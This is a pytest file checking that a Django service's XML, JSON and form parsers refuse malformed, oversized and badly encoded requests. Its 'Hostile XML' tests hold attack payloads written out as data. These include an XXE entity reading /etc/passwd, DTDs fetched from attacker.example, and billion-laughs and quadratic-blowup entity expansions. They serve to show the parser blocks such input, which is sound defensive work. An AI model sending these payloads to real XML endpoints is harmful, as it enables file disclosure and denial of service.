"""The three parsers on their own: hostile XML, strict JSON, ASP.NET-style forms."""

import codecs
from decimal import Decimal

import pytest
from django.core.exceptions import RequestDataTooBig
from rest_framework.exceptions import ParseError

from config.lcmanager.errors import FormatError
from config.lcmanager.parsers import MAX_XML_ELEMENTS
from config.lcmanager.schemas import (
    CLIENT_UPDATE_COMMUNICATION_REQUEST,
    SEND_MESSAGE_PROCESS_REQUEST,
)
from config.lcmanager.validation import validate
from tests.config.test_lcmanager_formats import parse_form, parse_json, parse_xml

NS = 'xmlns="http://schemas.datacontract.org/2004/07/LCManagerPartner.Implementation.Request.MarketingRequest"'


def xml_refused(body: bytes, **kwargs) -> str:
    with pytest.raises(ParseError) as caught:
        parse_xml(body, **kwargs)
    return str(caught.value.detail)


# Hostile XML.


def test_it_rejects_xxe():
    body = b"""<?xml version="1.0"?>
<!DOCTYPE SendMessageProcessRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<SendMessageProcessRequest><TextMessage>&xxe;</TextMessage></SendMessageProcessRequest>"""
    assert xml_refused(body) == "DTDs and entities are not allowed in XML requests."


def test_it_rejects_an_external_dtd():
    body = b"""<?xml version="1.0"?>
<!DOCTYPE SendMessageProcessRequest SYSTEM "http://attacker.example/evil.dtd">
<SendMessageProcessRequest><Phone>1</Phone></SendMessageProcessRequest>"""
    assert xml_refused(body) == "DTDs and entities are not allowed in XML requests."


def test_it_rejects_billion_laughs():
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    body = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(entities)}]>'
        "<SendMessageProcessRequest><Title>&lol9;</Title></SendMessageProcessRequest>"
    ).encode()
    assert xml_refused(body) == "DTDs and entities are not allowed in XML requests."


def test_it_rejects_quadratic_blowup():
    body = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>'
        f"<SendMessageProcessRequest><Title>{'&a;' * 1000}</Title></SendMessageProcessRequest>"
    ).encode()
    assert xml_refused(body) == "DTDs and entities are not allowed in XML requests."


def test_it_rejects_a_parameter_entity_reaching_outside():
    body = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<SendMessageProcessRequest/>"""
    assert xml_refused(body) == "DTDs and entities are not allowed in XML requests."


def test_it_rejects_nesting_fifty_levels_deep():
    body = f"<SendMessageProcessRequest>{'<a>' * 50}{'</a>' * 50}</SendMessageProcessRequest>"
    assert xml_refused(body.encode()) == "The XML nests deeper than 10 levels."


def test_it_accepts_nesting_ten_levels_deep_and_ignores_what_it_does_not_know():
    body = f"<SendMessageProcessRequest>{'<a>' * 9}{'</a>' * 9}</SendMessageProcessRequest>"
    assert validate(SEND_MESSAGE_PROCESS_REQUEST, parse_xml(body.encode()))["Phone"] is None


def test_it_rejects_too_many_elements():
    body = f"<SendMessageProcessRequest>{'<a/>' * MAX_XML_ELEMENTS}</SendMessageProcessRequest>"
    assert xml_refused(body.encode()) == f"The XML has more than {MAX_XML_ELEMENTS} elements."


def test_it_rejects_invalid_utf8():
    body = b"<SendMessageProcessRequest><Title>\xff\xfe</Title></SendMessageProcessRequest>"
    assert xml_refused(body) == (
        "The body is not valid UTF-8: the byte 0xFF at position 34 cannot be decoded; "
        "send UTF-8 or declare the encoding."
    )


def test_it_rejects_windows_1251_that_is_not_declared():
    body = "<SendMessageProcessRequest><Title>Привет</Title></SendMessageProcessRequest>"
    assert "not valid UTF-8" in xml_refused(body.encode("cp1251"))


def test_it_reads_windows_1251_declared_in_the_xml_declaration():
    body = (
        '<?xml version="1.0" encoding="windows-1251"?>'
        "<SendMessageProcessRequest><Title>Привет</Title></SendMessageProcessRequest>"
    ).encode("cp1251")
    assert parse_xml(body)["Title"] == "Привет"


def test_it_reads_windows_1251_declared_in_the_content_type():
    body = "<SendMessageProcessRequest><Title>Привет</Title></SendMessageProcessRequest>"
    raw = parse_xml(body.encode("cp1251"), media_type="text/xml; charset=windows-1251")
    assert raw["Title"] == "Привет"


def test_it_reads_utf16_with_a_byte_order_mark():
    body = '<?xml version="1.0" encoding="utf-16"?><SendMessageProcessRequest><Title>Привет</Title></SendMessageProcessRequest>'
    assert parse_xml(codecs.BOM_UTF16_LE + body.encode("utf-16-le"))["Title"] == "Привет"


def test_it_reads_utf8_with_a_byte_order_mark():
    body = "<SendMessageProcessRequest><Title>Привет</Title></SendMessageProcessRequest>"
    assert parse_xml(codecs.BOM_UTF8 + body.encode())["Title"] == "Привет"


def test_it_reads_utf8_mislabelled_utf16_as_dotnet_string_writers_produce():
    body = '<?xml version="1.0" encoding="utf-16"?><SendMessageProcessRequest><Title>Привет</Title></SendMessageProcessRequest>'
    assert parse_xml(body.encode())["Title"] == "Привет"


def test_it_rejects_an_encoding_it_does_not_support():
    body = b'<?xml version="1.0" encoding="x-klingon"?><SendMessageProcessRequest/>'
    assert xml_refused(body) == "The body's encoding 'x-klingon' is not supported; send UTF-8."


def test_it_rejects_a_nul_character():
    body = b"<SendMessageProcessRequest>\n<Title>a\x00b</Title></SendMessageProcessRequest>"
    assert xml_refused(body) == (
        "The XML contains the control character U+0000 at line 2, column 9; "
        "XML cannot carry control characters."
    )


def test_it_rejects_a_control_character():
    body = b"<SendMessageProcessRequest><Title>a\x1bb</Title></SendMessageProcessRequest>"
    assert "control character U+001B at line 1, column 36" in xml_refused(body)


def test_it_rejects_a_control_character_written_as_a_reference():
    body = b"<SendMessageProcessRequest><Title>a&#1;b</Title></SendMessageProcessRequest>"
    assert xml_refused(body) == (
        "The body is not well-formed XML: reference to invalid character number: line 1, column 35."
    )


def test_it_rejects_the_wrong_root_element():
    body = (
        b"<ClientUpdateCommunicationRequest><Client>1</Client></ClientUpdateCommunicationRequest>"
    )
    assert xml_refused(body) == (
        "The XML root element must be SendMessageProcessRequest, "
        "got ClientUpdateCommunicationRequest."
    )


def test_it_rejects_xml_that_is_not_well_formed():
    body = b"<SendMessageProcessRequest><Title>a</SendMessageProcessRequest>"
    assert xml_refused(body).startswith("The body is not well-formed XML: mismatched tag: line 1")


def test_it_rejects_an_undefined_entity():
    body = b"<SendMessageProcessRequest><Title>&nbsp;</Title></SendMessageProcessRequest>"
    assert xml_refused(body).startswith("The body is not well-formed XML: undefined entity")


def test_it_rejects_an_element_given_twice_naming_it():
    body = (
        b"<SendMessageProcessRequest><Phone>1</Phone><phone>2</phone></SendMessageProcessRequest>"
    )
    with pytest.raises(FormatError) as caught:
        parse_xml(body)
    assert caught.value.field == "phone"
    assert caught.value.message == "phone is given more than once."


def test_it_names_a_member_given_twice_inside_a_list_item():
    body = (
        f"<SendMessageProcessRequest {NS}><Files><File><Id>1</Id></File>"
        "<File><Id>2</Id><Id>3</Id></File></Files></SendMessageProcessRequest>"
    ).encode()
    with pytest.raises(FormatError) as caught:
        parse_xml(body)
    assert caught.value.field == "Files[1].Id"


# Tolerant XML reading.


def test_it_reads_xml_with_prefixes_no_namespaces_any_order_and_any_case():
    body = b"""<m:SendMessageProcessRequest xmlns:m="urn:anything">
  <m:phone>79161234567</m:phone>
  <CommunicationType>1</CommunicationType>
  <Operator>3</Operator>
  <Colour>red</Colour>
</m:SendMessageProcessRequest>"""
    data = validate(SEND_MESSAGE_PROCESS_REQUEST, parse_xml(body))
    assert (data["Phone"], data["CommunicationType"], data["Operator"]) == (79161234567, 1, 3)


def test_nil_elements_are_none_and_empty_elements_are_empty():
    body = f"""<SendMessageProcessRequest xmlns:i="http://www.w3.org/2001/XMLSchema-instance" {NS}>
  <Phone i:nil="true" />
  <Title i:nil="true" />
  <Email />
  <Client></Client>
  <Files i:nil="true" />
  <CardPhoneClientList />
</SendMessageProcessRequest>""".encode()
    raw = parse_xml(body)
    assert raw == {
        "Phone": None,
        "Title": None,
        "Email": "",
        "Client": "",
        "Files": None,
        "CardPhoneClientList": [],
    }
    data = validate(SEND_MESSAGE_PROCESS_REQUEST, raw)
    assert (data["Phone"], data["Title"], data["Email"], data["Client"]) == (None, None, "", None)
    assert data["Files"] == data["CardPhoneClientList"] == []


def test_list_items_may_have_any_element_name():
    body = f"""<SendMessageProcessRequest {NS}>
  <CardPhoneClientList>
    <Item><Phone>79161234567</Phone><Bonus>10.25</Bonus></Item>
    <SendMessageProcessCardPhoneClientList><Card>2200123456789012</Card></SendMessageProcessCardPhoneClientList>
    <Empty />
  </CardPhoneClientList>
</SendMessageProcessRequest>""".encode()
    items = validate(SEND_MESSAGE_PROCESS_REQUEST, parse_xml(body))["CardPhoneClientList"]
    assert items[0]["Phone"] == 79161234567
    assert items[0]["Bonus"] == Decimal("10.25")
    assert items[1]["Card"] == 2200123456789012
    assert items[2] == {"Id": None, "Phone": None, "Client": None, "Card": None, "Bonus": None}


def test_text_where_a_list_belongs_is_refused_by_validation():
    body = f"<SendMessageProcessRequest {NS}><Files>spring.jpg</Files></SendMessageProcessRequest>"
    with pytest.raises(FormatError) as caught:
        validate(SEND_MESSAGE_PROCESS_REQUEST, parse_xml(body.encode()))
    assert caught.value.message == "Files must be a list, got 'spring.jpg'."


def test_children_where_a_value_belongs_are_refused_by_validation():
    body = b"<ClientUpdateCommunicationRequest><Client><Id>1</Id></Client></ClientUpdateCommunicationRequest>"
    raw = parse_xml(body, contract=CLIENT_UPDATE_COMMUNICATION_REQUEST)
    with pytest.raises(FormatError) as caught:
        validate(CLIENT_UPDATE_COMMUNICATION_REQUEST, raw)
    assert caught.value.field == "Client"
    assert caught.value.message.endswith("got an object.")


def test_whitespace_inside_text_is_kept():
    body = b"<SendMessageProcessRequest><TextMessage>  two\n lines </TextMessage></SendMessageProcessRequest>"
    assert parse_xml(body)["TextMessage"] == "  two\n lines "


def test_the_root_name_is_matched_in_any_letter_case():
    assert parse_xml(b"<sendmessageprocessrequest><Phone>1</Phone></sendmessageprocessrequest>")


def test_a_body_larger_than_djangos_limit_is_refused(settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    body = f"<SendMessageProcessRequest><Title>{'x' * 1024}</Title></SendMessageProcessRequest>"
    with pytest.raises(RequestDataTooBig, match="larger than 1024 bytes"):
        parse_xml(body.encode())
    with pytest.raises(RequestDataTooBig):
        parse_json(b'{"Title": "' + b"x" * 1024 + b'"}')
    with pytest.raises(RequestDataTooBig):
        parse_form(b"Title=" + b"x" * 1024)


# JSON.


def json_refused(body: bytes, **kwargs) -> str:
    with pytest.raises(ParseError) as caught:
        parse_json(body, **kwargs)
    return str(caught.value.detail)


def test_it_rejects_malformed_json_saying_where():
    body = b'{\n  "Client": 1\n    "AllowSms": true\n}'
    assert json_refused(body) == (
        "The body is not valid JSON: Expecting ',' delimiter at line 3 column 5."
    )


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_it_rejects_nan_and_infinity_in_json(constant):
    body = f'{{"CardPhoneClientList": [{{"Bonus": {constant}}}]}}'.encode()
    assert json_refused(body) == f"The body is not valid JSON: {constant} is not a JSON number."


def test_it_rejects_invalid_utf8_in_json():
    assert json_refused(b'{"Title": "\xc3\x28"}') == (
        "The body is not valid UTF-8: the byte 0xC3 at position 11 cannot be decoded."
    )


def test_it_rejects_a_json_property_given_twice():
    assert json_refused(b'{"Phone": 1, "Phone": 2}') == (
        "The body is not valid JSON for this API: 'Phone' appears twice in one object."
    )


def test_it_rejects_json_nested_absurdly_deep():
    assert "nests too deeply" in json_refused(b"[" * 100_000 + b"]" * 100_000)


def test_json_numbers_with_a_fraction_are_read_as_exact_decimals():
    raw = parse_json(b'{"CardPhoneClientList": [{"Bonus": 0.1}], "Token": 123456789012345678.0}')
    assert raw["CardPhoneClientList"][0]["Bonus"] == Decimal("0.1")
    assert validate(SEND_MESSAGE_PROCESS_REQUEST, raw)["Token"] == 123456789012345678


def test_a_json_integer_of_thousands_of_digits_is_out_of_range_not_a_crash():
    raw = parse_json(b'{"Phone": ' + b"9" * 5000 + b"}")
    with pytest.raises(FormatError) as caught:
        validate(SEND_MESSAGE_PROCESS_REQUEST, raw)
    assert caught.value.field == "Phone"


def test_json_with_a_byte_order_mark_is_read():
    assert parse_json(codecs.BOM_UTF8 + b'{"Phone": 1}') == {"Phone": 1}


def test_json_in_a_declared_charset_is_read():
    body = '{"Title": "Привет"}'.encode("cp1251")
    raw = parse_json(body, media_type="application/json; charset=windows-1251")
    assert raw == {"Title": "Привет"}


def test_a_json_body_that_is_not_an_object_is_left_to_validation():
    assert parse_json(b"[1, 2]") == [1, 2]


# Forms.


def form_refused(body: bytes) -> FormatError:
    with pytest.raises(FormatError) as caught:
        parse_form(body)
    return caught.value


def test_it_reads_flat_mvc_and_jquery_keys():
    raw = parse_form(
        b"Phone=79161234567&Title=Spring+sale%21&Files[0].Id=1&Files[1][Id]=2"
        b"&files[1].Name=b.pdf&Files%5B0%5D.Name=a.jpg&Extra.Thing=ignored"
    )
    assert raw == {
        "Phone": "79161234567",
        "Title": "Spring sale!",
        "Extra.Thing": "ignored",
        "Files": [{"Id": "1", "Name": "a.jpg"}, {"Id": "2", "Name": "b.pdf"}],
    }


def test_form_list_items_come_in_index_order():
    raw = parse_form(b"Files[2].Id=c&Files[0].Id=a&Files[1].Id=b")
    assert [item["Id"] for item in raw["Files"]] == ["a", "b", "c"]


def test_it_rejects_form_index_gaps():
    error = form_refused(b"CardPhoneClientList[0].Phone=1&CardPhoneClientList[2].Phone=3")
    assert error.field == "CardPhoneClientList"
    assert error.message == (
        "CardPhoneClientList has no item 1 but has item 2: list indexes must start at 0 "
        "and have no gaps."
    )


def test_it_rejects_a_form_list_that_does_not_start_at_zero():
    assert form_refused(b"Files[1].Id=1").message.startswith("Files has no item 0")


def test_it_rejects_form_indexes_past_the_list_limit():
    error = form_refused(b"Files[10000].Id=1")
    assert error.field == "Files[10000]"
    assert "at most 10000 items" in error.message


def test_it_rejects_a_form_field_given_twice():
    error = form_refused(b"Phone=1&phone=2")
    assert (error.field, error.message) == ("phone", "phone is given more than once.")
    assert form_refused(b"Files[0].Id=1&Files[0][Id]=2").field == "Files[0].Id"


def test_it_rejects_a_list_member_key_it_cannot_read():
    error = form_refused(b"Files[first].Id=1")
    assert error.field == "Files"
    assert error.message == (
        "The form field 'Files[first].Id' cannot be read: write list members as "
        "Files[0].Id or Files[0][Id]."
    )


def test_it_rejects_a_list_given_also_as_a_single_value():
    assert form_refused(b"Files=x&Files[0].Id=1").message == (
        "Files is given both as a single value and as a list."
    )


def test_it_rejects_a_form_that_is_not_utf8_once_decoded():
    with pytest.raises(ParseError, match="not valid UTF-8 once its %-escapes are decoded"):
        parse_form(b"Title=%D0%9F%FF")


def test_it_rejects_a_form_body_that_is_not_utf8():
    with pytest.raises(ParseError, match="not valid UTF-8"):
        parse_form(b"Title=\xff")


def test_a_form_in_windows_1251_is_read_when_declared():
    body = b"Title=%CF%F0%E8%E2%E5%F2"  # "Привет" in windows-1251
    raw = parse_form(body, media_type="application/x-www-form-urlencoded; charset=windows-1251")
    assert raw == {"Title": "Привет"}


def test_form_values_become_typed_after_validation():
    raw = parse_form(
        b"Client=5&AllowSms=true&AllowEmail=0&AllowPush=&SiteCode=w-1",
        contract=CLIENT_UPDATE_COMMUNICATION_REQUEST,
    )
    data = validate(CLIENT_UPDATE_COMMUNICATION_REQUEST, raw)
    assert (data["Client"], data["AllowSms"], data["AllowEmail"]) == (5, True, False)
    assert data["AllowPush"] is None and data["AllowEmailOnlineCheque"] is None
